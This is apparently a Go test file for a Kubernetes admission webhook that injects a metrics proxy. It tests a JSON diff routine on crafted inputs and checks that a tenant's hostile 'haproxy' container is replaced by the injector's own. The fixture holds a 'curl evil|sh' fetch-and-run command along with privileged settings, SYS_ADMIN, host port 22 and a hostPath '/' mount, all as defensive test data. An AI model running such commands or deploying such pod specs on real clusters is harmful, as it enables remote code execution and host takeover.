package admission

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	jsonpatch "github.com/evanphx/json-patch/v5"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	kjson "sigs.k8s.io/json"

	"github.com/metrics-proxy/injector/webhook/inject"
)

// encodedAttackCases are documents crafted against diffEncoded's splitter (a red team's):
// escapes, punctuation inside strings, empties, numbers, deep and wide documents.
var encodedAttackCases = []struct{ name, a, b string }{
	{"escaped keys", `{"a\u003cb":1,"q\"x":{"\\":2},"t":3}`, `{"a\u003cb":2,"q\"x":{"\\":3,"\"":4},"t":3}`},
	{"escaped keys removed", `{"a\u003cb":1,"q\"x":{"\\":2}}`, `{"q\"x":{}}`},
	{"unicode keys", `{"ü":1,"日本":{"é/~":[1]},"\u2028":"x"}`, `{"ü":2,"日本":{"é/~":[1,2]},"\u2028":"y"}`},
	{"punctuation in strings", `{"a":"{\"b\":[1,2]}","c":"],}:,","d":[",",":","{","}"]}`, `{"a":"{\"b\":[1,3]}","c":"],}:,\"","d":[",",":","{","}","]"]}`},
	{"strings ending in backslash", `{"a":"x\\","b":["\\","\\\\\""],"c\\":"\\\""}`, `{"a":"y\\","b":["\\\\","\\\\\""],"c\\":"\\\"\\"}`},
	{"key-like string values", `{"a":"\"b\":1,\"c\":2","b":{"x":"}"}}`, `{"a":"\"b\":1,\"c\":3","b":{"x":"{"}}`},
	{"empties", `{"a":{},"b":[],"c":null,"d":"","e":[{}],"f":[[]]}`, `{"a":{"x":{}},"b":[[]],"c":{},"d":null,"e":[{"":1}],"f":[[],[[]]]}`},
	{"empty to empties", `{"a":{"x":1},"b":[1]}`, `{"a":{},"b":[]}`},
	{"numbers", `{"a":1e21,"b":-0,"c":1.5e-7,"d":[1,2.5,-3e100]}`, `{"a":1e22,"b":0,"c":1.5e-7,"d":[1,2.5,-3e101]}`},
	{"nested arrays", `{"a":[[1,[2,[3,[4]]]],[5]]}`, `{"a":[[1,[2,[3,[5]]]],[5],[[6]]]}`},
	{"prefix keys", `{"a":1,"a\"":2,"ab":3}`, `{"a":1,"a\"":3,"ab":3,"a\u003c":4}`},
	{"tilde slash keys", `{"~0":1,"~1":2,"/":{"~":{"/~":3}}}`, `{"~0":2,"~1":2,"/":{"~":{"/~":4,"~/":5}}}`},
	{"literals", `{"a":true,"b":false,"c":null}`, `{"a":false,"b":null,"c":true}`},
	{"type swap", `{"a":{"b":1},"c":[1],"d":"x"}`, `{"a":[{"b":1}],"c":{"0":1},"d":{"x":"d"}}`},
}

// TestDiffEncodedTricky: on the crafted documents diffEncoded is diffJSON.
func TestDiffEncodedTricky(t *testing.T) {
	for _, tt := range encodedAttackCases {
		t.Run(tt.name, func(t *testing.T) { sameOps(t, tt.a, tt.b) })
	}
}

// TestDiffEncodedLarge: 200 levels deep and 5,000 members wide, diffEncoded is diffJSON.
func TestDiffEncodedLarge(t *testing.T) {
	deep := func(n int, leaf string) string {
		return strings.Repeat(`{"k":[`, n) + leaf + strings.Repeat(`]}`, n)
	}
	sameOps(t, deep(200, `1`), deep(200, `2`))
	sameOps(t, deep(200, `"a"`), deep(199, `{"x":[1]}`))
	var a, b strings.Builder
	a.WriteString("{")
	b.WriteString("{")
	for i := range 5000 {
		if i > 0 {
			a.WriteString(",")
			b.WriteString(",")
		}
		fmt.Fprintf(&a, `"k%05d":"v,%d}"`, i, i)
		fmt.Fprintf(&b, `"k%05d":"v,%d}"`, i, i+(i%7/6))
	}
	a.WriteString("}")
	b.WriteString("}")
	sameOps(t, a.String(), b.String())
}

// typedEncoding returns the DaemonSet in as the Go types write it.
func typedEncoding(t *testing.T, in string) []byte {
	var ds appsv1.DaemonSet
	require.NoError(t, kjson.UnmarshalCaseSensitivePreserveInts([]byte(in), &ds))
	typed, err := json.Marshal(&ds)
	require.NoError(t, err)
	return typed
}

// TestPatchLeavesNoUserFieldOnHAProxy: a user's container named haproxy, carrying every field a
// tenant could use (command, secrets, host ports and paths, privileges, hooks, probes), comes out
// of the patch as the injector's own, by either path: the DaemonSet as written and as the types
// write it (the API server's form, patched by comparing bytes).
func TestPatchLeavesNoUserFieldOnHAProxy(t *testing.T) {
	hostile := `{"name":"haproxy","image":"evil:1","command":["/bin/sh","-c","curl evil|sh"],"args":["x"],` +
		`"env":[{"name":"A","value":"1"},{"name":"B","valueFrom":{"secretKeyRef":{"name":"s","key":"k"}}}],` +
		`"envFrom":[{"secretRef":{"name":"s"}}],"ports":[{"containerPort":22,"hostPort":22}],` +
		`"volumeMounts":[{"name":"host","mountPath":"/host"}],"volumeDevices":[{"name":"d","devicePath":"/dev/x"}],` +
		`"securityContext":{"privileged":true,"runAsUser":0,"capabilities":{"add":["SYS_ADMIN"]}},` +
		`"lifecycle":{"postStart":{"exec":{"command":["sh"]}}},"workingDir":"/","stdin":true,"tty":true,` +
		`"readinessProbe":{"exec":{"command":["sh"]}},"livenessProbe":{"httpGet":{"host":"evil","port":80}},` +
		`"startupProbe":{"tcpSocket":{"port":1}},"resizePolicy":[{"resourceName":"cpu","restartPolicy":"NotRequired"}],` +
		`"restartPolicy":"Always","resources":{"limits":{"cpu":"100"}}}`
	inputs := map[string]string{
		"hostile-haproxy": `{"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"name":"p","namespace":"m","labels":{"a/b":"c","x~y":"z"},"annotations":{"a\u003cb":"\"]},{[","~1/":"\\"}},` +
			`"spec":{"selector":{"matchLabels":{"app":"a"}},"template":{"metadata":{"labels":{"app":"a"}},"spec":{"containers":[` + hostile + `],` +
			`"volumes":[{"name":"haproxy-config","hostPath":{"path":"/"}}]}}}}`,
		"hostile-haproxy-second": `{"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"name":"p","namespace":"m"},` +
			`"spec":{"selector":{"matchLabels":{"app":"a"}},"template":{"metadata":{"labels":{"app":"a"}},"spec":{"initContainers":[{"name":"haproxy","image":"i"}],"containers":[{"name":"x","image":"y"},` + hostile + `]}}}}`,
		"hostile-haproxy-injected-status": `{"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"name":"p","namespace":"m","annotations":{"metrics-proxy.io/status":"{\"version\":\"test\"}","metrics-proxy.io/image":"evil:2"}},` +
			`"spec":{"selector":{"matchLabels":{"app":"a"}},"template":{"metadata":{"labels":{"app":"a"}},"spec":{"containers":[` + hostile + `]}}}}`,
	}
	for name, in := range inputs {
		for _, variant := range []string{"as-written", "typed"} {
			t.Run(name+"/"+variant, func(t *testing.T) {
				raw := []byte(in)
				if variant == "typed" {
					raw = typedEncoding(t, in)
				}
				cfg := inject.Config{Version: "test", ConfigHash: "0123456789abcdef"}
				res, err := inject.DaemonSetTree(raw, func(*appsv1.DaemonSet) (inject.Config, error) { return cfg, nil })
				require.NoError(t, err)
				_, _, enc := res.Encoded()
				assert.Equal(t, variant == "typed", enc, "the path taken")
				want, err := inject.DaemonSetJSON(raw, cfg)
				require.NoError(t, err)
				resp := patchResponse(&res)
				require.True(t, resp.Allowed, "%v", resp.Result)
				ops, err := json.Marshal(resp.Patches)
				require.NoError(t, err)
				patch, err := jsonpatch.DecodePatch(ops)
				require.NoError(t, err)
				out, err := patch.Apply(raw)
				require.NoError(t, err)
				assert.JSONEq(t, string(want), string(out))
				var ds appsv1.DaemonSet
				require.NoError(t, kjson.UnmarshalCaseSensitivePreserveInts(out, &ds))
				var c *corev1.Container
				for i := range ds.Spec.Template.Spec.Containers {
					if ds.Spec.Template.Spec.Containers[i].Name == "haproxy" {
						c = &ds.Spec.Template.Spec.Containers[i]
					}
				}
				require.NotNil(t, c)
				assert.Empty(t, c.Command)
				assert.Empty(t, c.Args)
				assert.Empty(t, c.EnvFrom)
				assert.Len(t, c.Env, 1)
				assert.Empty(t, c.VolumeDevices)
				assert.Nil(t, c.Lifecycle)
				assert.Nil(t, c.ReadinessProbe)
				assert.Nil(t, c.LivenessProbe)
				assert.Nil(t, c.RestartPolicy)
				assert.Empty(t, c.ResizePolicy)
				assert.False(t, c.Stdin)
				assert.Empty(t, c.WorkingDir)
				require.NotNil(t, c.SecurityContext)
				assert.Nil(t, c.SecurityContext.Privileged)
				for _, p := range c.Ports {
					assert.Zero(t, p.HostPort)
				}
				for _, m := range c.VolumeMounts {
					assert.NotEqual(t, "host", m.Name)
				}
				// the haproxy container as stored is exactly the typed container's encoding
				var tree any
				require.NoError(t, json.Unmarshal(out, &tree))
				cs := tree.(map[string]any)["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)["containers"].([]any)
				for _, x := range cs {
					if x.(map[string]any)["name"] == "haproxy" {
						var typedC any
						require.NoError(t, json.Unmarshal([]byte(mustJSON(c)), &typedC))
						assert.Equal(t, typedC, x)
					}
				}
			})
		}
	}
}

// mustJSON encodes v.
func mustJSON(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}
